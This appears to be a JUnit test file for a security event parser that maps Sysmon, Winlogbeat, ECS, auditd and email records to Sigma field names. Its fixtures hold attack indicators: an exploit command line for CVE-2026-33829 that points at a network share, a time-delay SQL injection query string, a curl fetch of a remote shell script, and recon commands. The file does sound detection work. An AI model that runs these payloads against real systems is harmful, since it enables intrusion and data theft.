package io.centinela.event;

import io.centinela.testkit.SharedData;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;

/**
 * The same Sysmon 1 event in each Windows shape gives the same Sigma names and values, and each non-Windows
 * shape gives the names its rules use. The evtx_dump original is SigmaHQ's regression event for
 * CVE-2026-33829; the other shapes are that event as the other collectors render it (lower-case braced GUIDs,
 * padded hex, numbers as strings, lower-case channel, trailing blank in CommandLine, numeric Keywords).
 */
class GoldenShapesTest {

    private static final String IMAGE = "C:\\Program Files\\WindowsApps\\Microsoft.ScreenSketch_11.2601.12.0_arm64__"
            + "8wekyb3d8bbwe\\SnippingTool\\SnippingTool.exe";
    private static final String CMD = "\"" + IMAGE + "\" ms-screensketch:edit?&filePath=%%5C%%5C172.16.137.159%%5Cshare";

    private static final Map<String, String> EXPECTED = new LinkedHashMap<>();

    static {
        EXPECTED.put("EventID", "1");
        EXPECTED.put("Channel", "Microsoft-Windows-Sysmon/Operational");
        EXPECTED.put("Provider_Name", "Microsoft-Windows-Sysmon");
        EXPECTED.put("Computer", "swachchhanda");
        EXPECTED.put("Image", IMAGE);
        EXPECTED.put("CommandLine", CMD);
        EXPECTED.put("ParentImage", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe");
        EXPECTED.put("ParentCommandLine",
                "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --no-startup-window");
        EXPECTED.put("User", "swachchhanda\\xodih");
        EXPECTED.put("ProcessGuid", "{0197231E-F943-69E5-A527-000000000800}");
        EXPECTED.put("ProcessId", "6180");
        EXPECTED.put("LogonId", "0x33e8d150");
        EXPECTED.put("IntegrityLevel", "Medium");
        EXPECTED.put("TerminalSessionId", "2");
        EXPECTED.put("Hashes", "MD5=FF9D1ED3795B9AD94F2390D5E5DA5905,SHA256=A80CB394D251F781DBD5FFB889D38FDD2095ADE"
                + "63110578CA62F62CF795B7538,IMPHASH=3D4392A18BB23C56D311A2D64B6E5BA0");
        EXPECTED.put("OriginalFileName", "-");
    }

    private final EventParser parser = new EventParser();

    @Test
    void evtxDumpFromSigmaRegressionData() throws Exception {
        Path f = SharedData.path("sigma/regression_data/rules-emerging-threats/2026/Exploits/CVE-2026-33829/"
                + "proc_creation_win_exploit_cve_2026_33829/7c3a5b1d-9e2f-4a8c-b5d7-1e0f3c6a9b2d.json");
        Event e;
        try (EventFileReader r = EventFileReader.open(f)) {
            e = r.next().parse(parser, EventFormat.AUTO);
        }
        assertEquals(EventFormat.EVTX_JSON, e.format());
        assertSigma(e);
        assertEquals("0x8000000000000000", e.field("Keywords"));
        assertEquals("{5770385F-C22A-43E0-BF4C-06F5698FFBD9}", e.field("Provider_Guid"));
        assertEquals("2026-04-20T10:00:35.646624Z", e.field("TimeCreated"));
    }

    @Test
    void mordorFlat() throws Exception {
        String json = """
                {"EventID": 1, "SourceName": "Microsoft-Windows-Sysmon", "Hostname": "swachchhanda",
                 "Channel": "microsoft-windows-sysmon/operational", "Keywords": -9223372036854775808,
                 "ProviderGuid": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}", "EventType": "INFO",
                 "Image": "%s", "CommandLine": "%s  ", "ProcessId": "6180",
                 "ParentImage": "C:\\\\Program Files (x86)\\\\Microsoft\\\\Edge\\\\Application\\\\msedge.exe",
                 "ParentCommandLine": "\\"C:\\\\Program Files (x86)\\\\Microsoft\\\\Edge\\\\Application\\\\msedge.exe\\" --no-startup-window",
                 "User": "swachchhanda\\\\xodih", "ProcessGuid": "{0197231e-f943-69e5-a527-000000000800}",
                 "LogonId": "0x0000000033E8D150", "IntegrityLevel": "Medium", "TerminalSessionId": "2",
                 "Hashes": "%s", "OriginalFileName": "-", "@timestamp": "2026-04-20T10:00:35.646Z"}
                """.formatted(esc(IMAGE), esc(CMD), EXPECTED.get("Hashes"));
        Event e = parse(json);
        assertEquals(EventFormat.FLAT_WINDOWS, e.format());
        assertSigma(e);
        assertEquals("0x8000000000000000", e.field("Keywords"));
        assertEquals("{5770385F-C22A-43E0-BF4C-06F5698FFBD9}", e.field("Provider_Guid"));
        assertEquals("INFO", e.field("EventType"), "NXLog EventType kept when no Sysmon EventType was moved");
    }

    @Test
    void mordorFlatKeepsSysmonEventTypeApartFromNXLogs() throws Exception {
        // Logstash moved NXLog's EventType aside: Sysmon's stays.
        Event moved = parse("""
                {"EventID": 13, "SourceName": "Microsoft-Windows-Sysmon", "Hostname": "h", "Channel": "x",
                 "EventType": "SetValue", "EventTypeOrignal": "INFO", "TargetObject": "HKLM\\\\x",
                 "Details": "DWORD (0x00000001)"}""");
        assertEquals("SetValue", moved.field("EventType"));
        assertEquals("INFO", moved.field("NXLogEventType"));
        assertEquals("DWORD (0x00000001)", moved.field("Details"));
        // NXLog's overwrote Sysmon's: recovered from the rendered message.
        Event overwritten = parse("""
                {"EventID": 12, "SourceName": "Microsoft-Windows-Sysmon", "Hostname": "h", "Channel": "x",
                 "EventType": "INFO", "Message": "Registry object added or deleted:\\r\\nRuleName: -\\r\\nEventType: CreateKey\\r\\nUtcTime: x"}""");
        assertEquals("CreateKey", overwritten.field("EventType"));
        assertEquals("INFO", overwritten.field("NXLogEventType"));
        // Not Sysmon: NXLog's EventType is the only one.
        assertEquals("AUDIT_SUCCESS", parse("""
                {"EventID": 4624, "SourceName": "Microsoft-Windows-Security-Auditing", "Hostname": "h",
                 "EventType": "AUDIT_SUCCESS"}""").field("EventType"));
    }

    @Test
    void winlogbeatRaw() throws Exception {
        String json = """
                {"@timestamp": "2026-04-20T10:00:35.646Z", "event": {"code": "1", "kind": "event"},
                 "winlog": {"event_id": "1", "channel": "Microsoft-Windows-Sysmon/Operational",
                   "provider_name": "Microsoft-Windows-Sysmon", "computer_name": "swachchhanda",
                   "provider_guid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}", "record_id": 86918,
                   "event_data": {"Image": "%s", "CommandLine": "%s", "ProcessId": "6180",
                     "ParentImage": "C:\\\\Program Files (x86)\\\\Microsoft\\\\Edge\\\\Application\\\\msedge.exe",
                     "ParentCommandLine": "\\"C:\\\\Program Files (x86)\\\\Microsoft\\\\Edge\\\\Application\\\\msedge.exe\\" --no-startup-window",
                     "User": "swachchhanda\\\\xodih", "ProcessGuid": "{0197231e-f943-69e5-a527-000000000800}",
                     "LogonId": "0x33e8d150", "IntegrityLevel": "Medium", "TerminalSessionId": "2",
                     "Hashes": "%s", "OriginalFileName": "-", "ParentUser": null}}}
                """.formatted(esc(IMAGE), esc(CMD), EXPECTED.get("Hashes"));
        Event e = parse(json);
        assertEquals(EventFormat.WINLOGBEAT, e.format());
        assertSigma(e);
        assertEquals("", e.field("ParentUser"), "an empty EventData element is present and empty");
        assertEquals("86918", e.field("EventRecordID"));
        assertEquals("swachchhanda", e.field("winlog.computer_name"), "ECS names are kept too");
        assertNull(e.field("winlog.event_data.Image"), "event_data is not copied twice");
    }

    @Test
    void winlogbeatEcs() throws Exception {
        // Winlogbeat's Sysmon module moves fields into ECS and leaves the rest in winlog.event_data.
        String json = """
                {"event": {"code": "1", "module": "sysmon", "provider": "Microsoft-Windows-Sysmon"},
                 "host": {"name": "swachchhanda.corp.local"},
                 "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational",
                   "provider_name": "Microsoft-Windows-Sysmon", "computer_name": "swachchhanda",
                   "event_data": {"LogonId": "0x33e8d150", "IntegrityLevel": "Medium", "TerminalSessionId": "2",
                     "OriginalFileName": "-"}},
                 "process": {"executable": "%s", "command_line": "%s", "pid": 6180,
                   "entity_id": "{0197231e-f943-69e5-a527-000000000800}",
                   "parent": {"executable": "C:\\\\Program Files (x86)\\\\Microsoft\\\\Edge\\\\Application\\\\msedge.exe",
                     "command_line": "\\"C:\\\\Program Files (x86)\\\\Microsoft\\\\Edge\\\\Application\\\\msedge.exe\\" --no-startup-window"},
                   "hash": {"md5": "ff9d1ed3795b9ad94f2390d5e5da5905",
                     "sha256": "a80cb394d251f781dbd5ffb889d38fdd2095ade63110578ca62f62cf795b7538",
                     "imphash": "3d4392a18bb23c56d311a2d64b6e5ba0"}},
                 "user": {"name": "swachchhanda\\\\xodih"}}
                """.formatted(esc(IMAGE), esc(CMD));
        Event e = parse(json);
        assertEquals(EventFormat.ECS_WINDOWS, e.format());
        assertSigma(e);
        assertEquals(IMAGE, e.field("process.executable"));
    }

    @Test
    void elasticAgentEcsWithoutWinlog() throws Exception {
        Event e = parse("""
                {"event": {"code": "4688", "provider": "Microsoft-Windows-Security-Auditing"},
                 "host": {"name": "dc1", "os": {"family": "windows"}},
                 "process": {"executable": "C:\\\\Windows\\\\System32\\\\cmd.exe", "command_line": "cmd /c whoami",
                   "parent": {"executable": "C:\\\\Windows\\\\explorer.exe"}}}""");
        assertEquals(EventFormat.ECS_WINDOWS, e.format());
        assertEquals("4688", e.field("EventID"));
        assertEquals("C:\\Windows\\System32\\cmd.exe", e.field("NewProcessName"));
        assertEquals("C:\\Windows\\explorer.exe", e.field("ParentProcessName"));
        assertEquals("dc1", e.field("Computer"));
        assertEquals("Microsoft-Windows-Security-Auditing", e.field("Provider_Name"));
    }

    @Test
    void ecsWindowsFilePathDependsOnEventId() throws Exception {
        Event file = parse("""
                {"event": {"code": 11}, "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational"},
                 "file": {"path": "C:\\\\Users\\\\a\\\\evil.exe"}, "process": {"executable": "C:\\\\w.exe"}}""");
        assertEquals("C:\\Users\\a\\evil.exe", file.field("TargetFilename"));
        assertNull(file.field("ImageLoaded"));
        Event load = parse("""
                {"event": {"code": 7}, "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational"},
                 "file": {"path": "C:\\\\x.dll"}, "process": {"executable": "C:\\\\w.exe"}}""");
        assertEquals("C:\\x.dll", load.field("ImageLoaded"));
        assertNull(load.field("TargetFilename"));
    }

    @Test
    void ecsWebFromTheMlData() throws Exception {
        Event e = parse("""
                {"@timestamp": null, "event": {"kind": "event", "category": ["web"], "type": ["access"]},
                 "http": {"version": "1.1", "request": {"method": "GET", "headers": {"User-Agent": "Mozilla/5.0 (compatible; Konqueror/3.5; Linux)",
                   "Host": "localhost:8080", "Cookie": "JSESSIONID=2CB9"}, "body": {"content": null, "bytes": 0}},
                   "response": {"status_code": 200}},
                 "url": {"original": "http://localhost:8080/tienda1/publico/pagar.jsp?modo=%27%3Bwaitfor+delay+%270%3A0%3A15%27%3B--&precio=7990",
                   "scheme": "http", "domain": "localhost", "port": 8080, "path": "/tienda1/publico/pagar.jsp",
                   "query": "modo=%27%3Bwaitfor+delay+%270%3A0%3A15%27%3B--&precio=7990"},
                 "user_agent": {"original": "Mozilla/5.0 (compatible; Konqueror/3.5; Linux)"},
                 "source": {"ip": "203.0.113.7"}, "destination": {"domain": "localhost", "port": 8080}}""");
        assertEquals(EventFormat.ECS_WEB, e.format());
        assertEquals(EventKind.WEB, e.kind());
        assertEquals("GET", e.field("cs-method"));
        assertEquals("/tienda1/publico/pagar.jsp", e.field("cs-uri-stem"));
        assertEquals("modo=%27%3Bwaitfor+delay+%270%3A0%3A15%27%3B--&precio=7990", e.field("cs-uri-query"));
        assertEquals("/tienda1/publico/pagar.jsp?modo=%27%3Bwaitfor+delay+%270%3A0%3A15%27%3B--&precio=7990",
                e.field("cs-uri"));
        assertEquals(e.field("url.original"), e.field("c-uri"));
        assertEquals("jsp", e.field("c-uri-extension"));
        assertEquals("Mozilla/5.0 (compatible; Konqueror/3.5; Linux)", e.field("c-useragent"));
        assertEquals("localhost:8080", e.field("cs-host"));
        assertEquals("JSESSIONID=2CB9", e.field("cs-cookie"));
        assertEquals("200", e.field("sc-status"));
        assertEquals("HTTP/1.1", e.field("cs-version"));
        assertEquals("203.0.113.7", e.field("c-ip"));
        assertEquals("8080", e.field("s-port"));
        assertFalse(e.fields().containsKey("@timestamp"), "JSON null is absent");
        assertFalse(e.fields().containsKey("http.request.body.content"));
        assertEquals("0", e.field("http.request.body.bytes"));
    }

    @Test
    void ecsEmailWithAttachments() throws Exception {
        Event e = parse("""
                {"event": {"category": ["email"]}, "email": {"from": {"address": ["Microsoft", "no-reply@access-accsecurity.com"]},
                  "to": {"address": ["recipient@example.com", "b@example.com"]}, "subject": "unusual signin activity",
                  "headers": {"Reply-To": "x@gmail.com"}, "urls": [],
                  "attachments": [{"file": {"name": "a.pdf", "size": 10, "hash": {"sha256": "f90e"}}},
                                  {"file": {"name": "b.zip", "size": 20, "hash": {"sha256": "aa11"}}}]}}""");
        assertEquals(EventFormat.ECS_EMAIL, e.format());
        assertEquals(EventKind.EMAIL, e.kind());
        assertEquals("no-reply@access-accsecurity.com", e.field("sender"));
        assertEquals(List.of("recipient@example.com", "b@example.com"), e.values("recipient"));
        assertEquals(List.of("a.pdf", "b.zip"), e.values("email.attachments.file.name"));
        assertEquals(List.of("f90e", "aa11"), e.values("email.attachments.file.hash.sha256"));
        assertEquals("x@gmail.com", e.field("email.headers.Reply-To"));
        assertFalse(e.fields().containsKey("email.urls"), "an empty list is absent");
    }

    @Test
    void linuxAuditdAndEcs() throws Exception {
        Event audit = parse("""
                {"type": "EXECVE", "syscall": "59", "exe": "/usr/bin/curl", "proctitle": "curl -s http://x/a.sh",
                 "cwd": "/tmp", "pid": 4242, "hostname": "web01"}""");
        assertEquals(EventKind.LINUX, audit.kind());
        assertEquals("/usr/bin/curl", audit.field("Image"));
        assertEquals("curl -s http://x/a.sh", audit.field("CommandLine"));
        assertEquals("/tmp", audit.field("CurrentDirectory"));
        assertEquals("web01", audit.field("Computer"));
        Event ecs = parse("""
                {"host": {"os": {"type": "linux"}, "name": "db1"}, "process": {"executable": "/bin/bash",
                 "args": ["bash", "-c", "id"], "parent": {"executable": "/usr/sbin/sshd"}}, "user": {"name": "root"}}""");
        assertEquals(EventKind.LINUX, ecs.kind());
        assertEquals("bash -c id", ecs.field("CommandLine"));
        assertEquals("/usr/sbin/sshd", ecs.field("ParentImage"));
        assertEquals("root", ecs.field("User"));
        Event generic = parse("{\"a\": {\"b\": [1, 2]}, \"c\": true}");
        assertEquals(EventKind.GENERIC, generic.kind());
        assertEquals(List.of("1", "2"), generic.values("a.b"));
        assertEquals("true", generic.field("c"));
    }

    @Test
    void fixedFormatOverridesDetection() throws Exception {
        byte[] flat = "{\"EventID\": 4688, \"NewProcessName\": \"C:\\\\a.exe\"}".getBytes(StandardCharsets.UTF_8);
        Event asGeneric = parser.parse(flat, new EventOrigin.File("t", 1), EventFormat.GENERIC);
        assertEquals(EventFormat.GENERIC, asGeneric.format());
        assertEquals(EventKind.GENERIC, asGeneric.kind());
        assertEquals(EventFormat.FLAT_WINDOWS, parser.parse(flat, new EventOrigin.File("t", 1)).format());
    }

    private void assertSigma(Event e) {
        Map<String, String> actual = new LinkedHashMap<>();
        EXPECTED.keySet().forEach(k -> actual.put(k, e.field(k)));
        assertEquals(EXPECTED, actual);
        assertEquals(EventKind.WINDOWS, e.kind());
    }

    private Event parse(String json) throws EventRejectedException {
        return parser.parse(json.getBytes(StandardCharsets.UTF_8), new EventOrigin.File("golden", 1));
    }

    private static String esc(String s) {
        return s.replace("\\", "\\\\").replace("\"", "\\\"");
    }
}
